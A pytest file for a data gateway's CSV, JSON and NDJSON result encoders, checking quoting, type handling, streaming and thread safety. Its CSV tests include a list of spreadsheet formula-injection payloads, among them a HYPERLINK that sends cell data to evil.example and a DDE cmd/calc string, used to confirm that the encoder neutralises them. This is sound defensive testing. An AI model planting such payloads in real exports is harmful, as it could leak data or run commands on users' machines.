"""Result encoders: CSV formula neutralisation (text cells only), RFC 4180 quoting,
columns by position; and the same through POST /v1/query with format=csv."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pytest

from gateway.result_formats import (
    encode_csv,
    encode_json,
    encode_ndjson,
    is_text_type,
    neutralise_formula,
)
from tests.factories import ENERGY_VALID_ROWS, load, make_caller, make_dataset

if TYPE_CHECKING:
    from fastapi.testclient import TestClient

    from gateway.services import Platform

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    " =1+1",
    "\u3000=1+1",
    "\n@SUM(A1)",
]


def csv_rows(table: pa.Table, batch_size: int | None = None) -> list[list[str]]:
    batches = table.to_batches(max_chunksize=batch_size)
    text = b"".join(encode_csv(table.schema, batches)).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_text_cell_that_starts_a_formula_gets_a_quote_prefix(attack: str) -> None:
    rows = csv_rows(pa.table({"note": [attack]}))
    assert rows == [["note"], ["'" + attack]]


@pytest.mark.parametrize(
    "value", ["a=b", "1+1", "email@example.com", "12.5", "HK$ -3", "備註：=見附件", ""]
)
def test_csv_text_cell_without_a_leading_trigger_is_unchanged(value: str) -> None:
    assert csv_rows(pa.table({"note": [value]}))[1] == [value]


def test_csv_numbers_booleans_and_dates_are_never_prefixed() -> None:
    table = pa.table(
        {
            "kwh": pa.array([-12.5, 3.0], pa.float64()),
            "f32": pa.array([-12.5, 0.25], pa.float32()),
            "delta": pa.array([-3, 4], pa.int64()),
            "amount": pa.array([Decimal("-12.50"), Decimal("7.00")], pa.decimal128(6, 2)),
            "ok": pa.array([True, False]),
            "day": pa.array([date(2025, 7, 11), None]),
            "ts": pa.array([datetime(2025, 7, 11, 8, 15), None], pa.timestamp("s")),
        }
    )
    assert csv_rows(table)[1:] == [
        ["-12.5", "-12.5", "-3", "-12.50", "True", "2025-07-11", "2025-07-11T08:15:00"],
        ["3.0", "0.25", "4", "7.00", "False", "", ""],
    ]


def test_csv_text_that_looks_like_a_number_is_still_text() -> None:
    """A string column is neutralised even when the value reads as a negative number: the
    type, not the content, decides (a spreadsheet would evaluate -1+1 in a text cell)."""
    rows = csv_rows(pa.table({"code": ["-12.5", "-1+1"], "n": [-12.5, -1.0]}))
    assert rows[1:] == [["'-12.5", "-12.5"], ["'-1+1", "-1.0"]]


@pytest.mark.parametrize(
    "array",
    [
        pa.array(["=1+1", "ok"], pa.large_string()),
        pa.array(["=1+1", "ok"], pa.string_view()),
        pa.array(["=1+1", "ok"]).dictionary_encode(),
    ],
    ids=["large_string", "string_view", "dictionary"],
)
def test_csv_every_string_type_is_neutralised(array: pa.Array) -> None:
    assert csv_rows(pa.table({"s": array}))[1:] == [["'=1+1"], ["ok"]]


def test_csv_header_names_are_neutralised() -> None:
    rows = csv_rows(pa.table({'=HYPERLINK("x")': ["a"], "-kwh": [1.5]}))
    assert rows[0] == ['\'=HYPERLINK("x")', "'-kwh"]


def test_csv_quotes_per_rfc_4180_and_keeps_nulls_empty() -> None:
    table = pa.table({"s": ["a,b", 'say "hi"', "two\nlines", None, "=a,b"]})
    text = b"".join(encode_csv(table.schema, table.to_batches())).decode()
    assert text.split("\r\n")[1:3] == ['"a,b"', '"say ""hi"""']
    assert [r[0] for r in csv.reader(io.StringIO(text, newline=""))][1:] == [
        "a,b",
        'say "hi"',
        "two\nlines",
        "",
        "'=a,b",
    ]


def test_csv_keeps_duplicate_column_names_apart() -> None:
    table = pa.Table.from_arrays([pa.array(["=x"]), pa.array([-2.5])], names=["x", "x"])
    assert csv_rows(table) == [["x", "x"], ["'=x", "-2.5"]]


def test_json_keeps_duplicate_column_names_apart() -> None:
    table = pa.Table.from_arrays([pa.array(["a"]), pa.array([-2.5])], names=["x", "x"])
    body = b"".join(encode_json(table.schema, table.to_batches(), lambda: {"row_count": 1}))
    assert json.loads(body)["rows"] == [["a", -2.5]]


def test_csv_streams_every_batch() -> None:
    table = pa.table({"s": [f"-{i}" for i in range(10)], "n": [-i for i in range(10)]})
    rows = csv_rows(table, batch_size=3)
    assert rows[1:] == [[f"'-{i}", str(-i)] for i in range(10)]


def test_csv_text_type_classification() -> None:
    assert is_text_type(pa.string()) and is_text_type(pa.binary())
    assert is_text_type(pa.list_(pa.string()))
    assert not is_text_type(pa.dictionary(pa.int32(), pa.int64()))
    assert not is_text_type(pa.duration("s"))
    assert neutralise_formula("'=already") == "'=already"  # a leading quote is no trigger


def test_query_csv_over_http_neutralises_text_and_keeps_numbers(
    client: TestClient, platform: Platform
) -> None:
    provider = make_caller(platform, client)
    dataset = make_dataset(client, provider)
    load(client, provider, dataset["id"])
    sql = (
        "SELECT '=HYPERLINK(''http://evil.example'')' AS link, '-' || meter_id AS code, "
        f"-kwh AS neg_kwh FROM {dataset['sql_name']} ORDER BY meter_id"
    )
    response = client.post(
        "/v1/query", headers=provider.headers, json={"sql": sql, "format": "csv"}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows: list[Any] = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == ["link", "code", "neg_kwh"]
    assert rows[1:] == [
        ["'=HYPERLINK('http://evil.example')", "'-DG-P2-MCC-07", "-12.5"],
        ["'=HYPERLINK('http://evil.example')", "'-DG-P2-MCC-08", "-7.25"],
        ["'=HYPERLINK('http://evil.example')", "'-DG-P2-MCC-09", "-0.0"],
    ]


def ndjson_lines(table: pa.Table, batch_size: int | None = None) -> list[dict[str, Any]]:
    body = b"".join(encode_ndjson(table.schema, table.to_batches(max_chunksize=batch_size)))
    assert body.endswith(b"\n")
    return [json.loads(line) for line in body.splitlines()]


def test_ndjson_one_object_per_row_across_batches() -> None:
    table = pa.table({"id": list(range(7)), "name": [f"n{i}" for i in range(7)]})
    assert ndjson_lines(table, batch_size=3) == [{"id": i, "name": f"n{i}"} for i in range(7)]


def test_json_and_ndjson_values_are_valid_json_for_every_type() -> None:
    table = pa.table(
        {
            "f": pa.array([1.5, float("nan"), float("inf"), None]),
            "dec": pa.array([Decimal("-12.50"), Decimal("0.10"), None, Decimal("7")]).cast(
                pa.decimal128(6, 2)
            ),
            "ts": pa.array([datetime(2025, 7, 11, 8, 15), None, None, None], pa.timestamp("us")),
            "day": pa.array([date(2025, 7, 11), None, None, None]),
            "bin": pa.array([b"\x00\xff", None, b"", None]),
            'q"\n': pa.array(['say "hi"\n', "é", None, "\u2028"]),
            "l": pa.array([[1, 2], None, [], [3]]),
        }
    )
    lines = ndjson_lines(table)
    assert lines[0] == {
        "f": 1.5,
        "dec": "-12.50",
        "ts": "2025-07-11T08:15:00",
        "day": "2025-07-11",
        "bin": "AP8=",
        'q"\n': 'say "hi"\n',
        "l": [1, 2],
    }
    assert [line["f"] for line in lines] == [1.5, None, None, None]  # NaN/Infinity: null
    body = b"".join(encode_json(table.schema, table.to_batches(), lambda: {"row_count": 4}))
    doc = json.loads(body)
    assert doc["rows"][0] == list(lines[0].values())
    assert doc["row_count"] == 4 and len(doc["rows"]) == 4


def test_json_with_no_rows_is_an_empty_array() -> None:
    schema = pa.schema([("x", pa.int64())])
    body = b"".join(encode_json(schema, [], lambda: {"row_count": 0}))
    assert json.loads(body) == {
        "columns": [{"name": "x", "type": "int64"}],
        "rows": [],
        "row_count": 0,
    }
    assert b"".join(encode_ndjson(schema, [])) == b""


def test_query_ndjson_over_http_streams_rows(client: TestClient, platform: Platform) -> None:
    provider = make_caller(platform, client)
    dataset = make_dataset(client, provider)
    load(client, provider, dataset["id"])
    sql = f"SELECT meter_id, kwh, tariff FROM {dataset['sql_name']} ORDER BY meter_id"
    response = client.post(
        "/v1/query", headers=provider.headers, json={"sql": sql, "format": "ndjson"}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson"
    assert response.headers["cache-control"] == "no-store"
    rows = [json.loads(line) for line in response.text.splitlines()]
    assert [(r["meter_id"], r["kwh"], r["tariff"]) for r in rows] == ENERGY_VALID_ROWS


def test_json_renderers_used_from_many_threads_never_mix_batches() -> None:
    from concurrent.futures import ThreadPoolExecutor

    from catalog.duckdb_session import JsonRenderer

    jobs = []
    for i in range(40):
        # a timestamp column: rendered by DuckDB (catalog.json_text takes only plain types)
        stamps = pa.array([0, 1_000_000], pa.timestamp("us"))
        table = pa.table({f"c{i}": [i, i + 1], "s": [f"row{i}", None], "t": stamps})
        renderer = JsonRenderer(table.schema, shape="object", suffix="\n")
        jobs.append((renderer, table.to_batches()[0], i))

    def render(job: tuple[Any, pa.RecordBatch, int]) -> tuple[int, bytes]:
        renderer, batch, i = job
        return i, renderer.render(batch)

    with ThreadPoolExecutor(max_workers=6) as pool:
        for i, body in pool.map(render, jobs * 5):
            rows = [json.loads(line) for line in body.splitlines()]
            assert rows == [
                {f"c{i}": i, "s": f"row{i}", "t": "1970-01-01T00:00:00"},
                {f"c{i}": i + 1, "s": None, "t": "1970-01-01T00:00:01"},
            ]


@pytest.mark.parametrize("fmt", ["json", "ndjson"])
def test_rendering_on_several_threads_keeps_rows_in_order(fmt: str) -> None:
    from gateway.result_formats import encode_body

    table = pa.table({"i": list(range(5000)), "s": [f"r{i}" for i in range(5000)]})
    batches = table.to_batches(max_chunksize=37)
    inline = b"".join(encode_body(fmt, table.schema, batches))
    threaded = b"".join(encode_body(fmt, table.schema, iter(batches), threads=2))
    assert threaded == inline


def test_the_client_reads_server_timing_and_skips_what_it_cannot() -> None:
    from gateway.client import parse_server_timing

    header = (
        'govern;dur=12.5;desc="a, b", worker;dur=40, miss;desc="x", bad;dur=x, execute;dur=3.25'
    )
    assert parse_server_timing(header) == {"govern": 12.5, "worker": 40.0, "execute": 3.25}
    assert parse_server_timing("") == {}
